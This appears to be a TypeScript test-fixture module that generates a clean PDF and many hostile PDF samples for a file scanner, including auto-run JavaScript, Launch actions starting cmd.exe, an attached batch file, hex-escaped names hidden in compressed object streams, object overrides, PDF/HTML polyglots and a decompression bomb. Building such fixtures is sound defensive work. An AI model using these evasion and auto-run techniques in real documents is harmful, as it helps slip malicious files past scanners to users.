import { deflateSync } from "node:zlib";
import { PDFDocument, PDFName, PDFString, StandardFonts } from "pdf-lib";

/** A plain document made with pdf-lib (objects packed in compressed object streams, as most tools do): one page of text, a web link and an 'open at page 1' action. */
export async function plainPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([595, 842]);
  page.drawText("Patch list del escenario principal", { x: 50, y: 780, size: 14, font: await doc.embedFont(StandardFonts.Helvetica) });
  const link = doc.context.register(
    doc.context.obj({ Type: "Annot", Subtype: "Link", Rect: [50, 700, 300, 720], A: { S: "URI", URI: PDFString.of("https://redav.lat/") } }),
  );
  page.node.set(PDFName.of("Annots"), doc.context.obj([link]));
  doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj([page.ref, PDFName.of("Fit")]));
  return doc.save();
}

/** A pdf-lib document changed by `change` and saved with compressed object streams, so that its names are not in the raw bytes. */
async function packedPdf(change: (doc: PDFDocument) => void | Promise<void>): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  doc.addPage([595, 842]);
  await change(doc);
  return doc.save({ useObjectStreams: true });
}

/** JavaScript that runs when the document opens (/OpenAction with /S /JavaScript), inside a compressed object stream. */
export const openActionJavaScript = () =>
  packedPdf((doc) => {
    doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj({ Type: "Action", S: "JavaScript", JS: PDFString.of("app.alert('hola')") }));
  });

/** A page whose additional action (/AA, on opening the page) runs JavaScript. */
export const pageAdditionalAction = () =>
  packedPdf((doc) => {
    doc.getPage(0).node.set(PDFName.of("AA"), doc.context.obj({ O: { S: "JavaScript", JS: PDFString.of("this.submitForm('https://x.example')") } }));
  });

/** A launch action that starts a program when the document opens. */
export const launchAction = () =>
  packedPdf((doc) => {
    doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj({ S: "Launch", F: PDFString.of("cmd.exe") }));
  });

/** A file embedded in the document (an attachment a reader may be led to open). */
export const embeddedFile = () =>
  packedPdf(async (doc) => {
    await doc.attach(new TextEncoder().encode("@echo off"), "leeme.bat", { mimeType: "application/octet-stream" });
  });

type RawObject = { number: number; body: Buffer | string };

/** A PDF written byte by byte (header, objects, cross-reference table pointing at the first definition of each number, trailer), for what pdf-lib will not write. */
export function rawPdf(objects: RawObject[], options: { afterHeader?: string; trailer?: string } = {}): Uint8Array {
  const parts: Buffer[] = [Buffer.from(`%PDF-1.7\n%\xe2\xe3\xcf\xd3\n${options.afterHeader ?? ""}`, "latin1")];
  const offsets = new Map<number, number>();
  let length = parts[0].length;
  for (const object of objects) {
    const bytes = Buffer.concat([Buffer.from(`${object.number} 0 obj\n`), Buffer.from(object.body), Buffer.from("\nendobj\n")]);
    if (!offsets.has(object.number)) offsets.set(object.number, length);
    parts.push(bytes);
    length += bytes.length;
  }
  const size = Math.max(...objects.map((object) => object.number)) + 1;
  const rows = Array.from({ length: size }, (_, number) =>
    number === 0 ? "0000000000 65535 f \n" : `${String(offsets.get(number) ?? 0).padStart(10, "0")} 00000 ${offsets.has(number) ? "n" : "f"} \n`,
  );
  parts.push(Buffer.from(`xref\n0 ${size}\n${rows.join("")}trailer\n<< /Size ${size} /Root 1 0 R ${options.trailer ?? ""}>>\nstartxref\n${length}\n%%EOF\n`));
  return new Uint8Array(Buffer.concat(parts));
}

const PAGES = [
  { number: 2, body: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>" },
  { number: 3, body: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>" },
];

/** A compressed object stream holding `objects` (each `[number, text]`), as object `number`. */
function objectStream(number: number, objects: [number, string][], paddingBytes = 0): RawObject {
  let offset = 0;
  const header: string[] = [];
  const bodies: string[] = [];
  for (const [objectNumber, text] of objects) {
    header.push(`${objectNumber} ${offset}`);
    bodies.push(text);
    offset += text.length + 1;
  }
  const head = `${header.join(" ")} `;
  const packed = deflateSync(Buffer.concat([Buffer.from(head + bodies.join(" ")), Buffer.alloc(paddingBytes, 32)]));
  return {
    number,
    body: Buffer.concat([
      Buffer.from(`<< /Type /ObjStm /N ${objects.length} /First ${head.length} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`),
      packed,
      Buffer.from("\nendstream"),
    ]),
  };
}

/** JavaScript and a launch action whose names are hex-escaped (/J#61vaScript, /#4a#53 in lower case, /L#61unch) inside a compressed object stream. */
export const escapedNamesInObjectStream = () =>
  rawPdf([
    { number: 1, body: "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>" },
    ...PAGES,
    objectStream(5, [
      [4, "<< /Type /Action /S /J#61vaScript /#4a#53 (app.alert(1)) /Next 6 0 R >>"],
      [6, "<< /S /L#61unch /F (calc.exe) >>"],
    ]),
  ]);

/** The same escaped JavaScript in a plain (uncompressed) object. */
export const escapedNamesPlain = () =>
  rawPdf([{ number: 1, body: "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /#4a#53 (app.alert(1)) >> >>" }, ...PAGES]);

/** A catalog whose first definition (the one the cross-reference table points at) runs a script before closing (only short names: /AA, /JS), followed by a harmless one with the same number. */
export const overriddenObject = () =>
  rawPdf([
    { number: 1, body: "<< /Type /Catalog /Pages 2 0 R /AA << /WC << /JS (app.alert(1)) >> >> >>" },
    ...PAGES,
    { number: 1, body: "<< /Type /Catalog /Pages 2 0 R >>" },
  ]);

/** A PDF/HTML polyglot: a valid document whose first lines are also an HTML page with a script. */
export const htmlPolyglot = () =>
  rawPdf([{ number: 1, body: "<< /Type /Catalog /Pages 2 0 R >>" }, ...PAGES], {
    afterHeader: "%<html><body><script>fetch('/api/saved').then(r=>r.text()).then(alert)</script></body></html>\n",
  });

/** An HTML page with a PDF after it (the header is not at the start). */
export const htmlBeforeHeader = () =>
  new Uint8Array(
    Buffer.concat([
      Buffer.from("<html><script>alert(1)</script></html>\n"),
      Buffer.from(rawPdf([{ number: 1, body: "<< /Type /Catalog /Pages 2 0 R >>" }, ...PAGES])),
    ]),
  );

/** A few kilobytes that unpack into 80 MB while the document is read (an object stream padded with spaces). */
export const unpackingBomb = () =>
  rawPdf([{ number: 1, body: "<< /Type /Catalog /Pages 2 0 R >>" }, ...PAGES, objectStream(5, [[4, "<< /Kind /Harmless >>"]], 80 * 1024 * 1024)]);

/** A document encrypted (its strings and streams unreadable without the key, so what they hold cannot be checked). */
export const encryptedPdf = () =>
  rawPdf(
    [
      { number: 1, body: "<< /Type /Catalog /Pages 2 0 R >>" },
      ...PAGES,
      { number: 4, body: "<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <00> /U <00> >>" },
    ],
    { trailer: "/Encrypt 4 0 R /ID [<01> <01>] " },
  );
